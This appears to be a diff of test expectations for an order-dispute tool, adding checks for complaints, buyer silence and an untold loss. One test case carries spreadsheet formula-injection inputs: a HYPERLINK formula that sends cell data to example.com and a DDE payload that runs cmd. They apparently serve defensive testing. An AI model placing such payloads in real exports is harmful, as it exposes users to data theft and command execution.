@@ -49,6 +49,7 @@ STORIES = {
         "Delivered on 2026-10-10",
         says=(
             ("shipping_choice.signature", "missing_sent", "warn"), ("communication.answered", "unanswered", "warn"),
+            ("communication.complaint", "complaint_open", "warn"),
         ),
         words=("A9-2207-0418", "Signature of the receiver"), open=("item_not_received",),
     ),
@@ -67,14 +68,14 @@ STORIES = {
             "Robert \"Bobby\" O'Neil <b>",
         ),
     ),
-    # Delivered to a locker: not with the buyer.
+    # Delivered to a locker: not with the buyer, and not silent either.
     "03-13071-66402": Expected(
         "Waiting for pickup",
         says=(
-            ("monitoring.standing", "waiting_for_pickup", "warn"),
+            ("monitoring.standing", "waiting_for_pickup", "warn"), ("monitoring.silence", "waits_for_buyer", "pass"),
             ("monitoring.delivered_by", "not_delivered", "note"),
         ),
-        never=("delivered", "arrived", "kept"), open=("item_not_received",),
+        never=("delivered", "arrived", "kept", "stale"), open=("item_not_received",),
     ),
     # A photo used for two orders: the first.
     "08-13080-17759": Expected(
@@ -109,8 +110,13 @@ STORIES = {
         says=(
             ("delivery_receipt.before_packing", "done", "pass"), ("delivery_receipt.after_packing", "done", "pass"),
             ("packaging.photos", "done", "pass"), ("communication.carrier_inquiry", "answered", "pass"),
+            ("monitoring.problems", "asked", "warn"), ("communication.complaint", "complaint_answered", "note"),
         ),
-        words=("Outer packaging damaged", "la théière est arrivée cassée", "REK-2026-118204"),
+        never=("none",),
+        words=(
+            "1 thing to take care of", "Lille, France (FR)", "Outer packaging damaged",
+            "la théière est arrivée cassée", "REK-2026-118204",
+        ),
         ready=("damaged_defective",),
     ),
     # Wrong address.
@@ -125,12 +131,12 @@ STORIES = {
         words=('=HYPERLINK("http://example.com/x?"&A1,"Click")', "-2+3+cmd|' /C calc'!A0", "خالد المنصوري"),
         never=("delivered",),
     ),
-    # Lost.
+    # Lost: the buyer heard of the delay and not of the loss.
     "113-4482917-5530264": Expected(
         "Lost",
         says=(
             ("monitoring.standing", "lost", "warn"), ("communication.carrier_inquiry", "answered", "pass"),
-            ("communication.delay_told", "told", "pass"), ("monitoring.claim_window", "claimed", "pass"),
+            ("communication.delay_told", "not_told", "warn"), ("monitoring.claim_window", "claimed", "pass"),
         ),
         never=("delivered", "kept"), words=("Search closed without result", "INQ-77310254"),
         open=("item_not_received",),
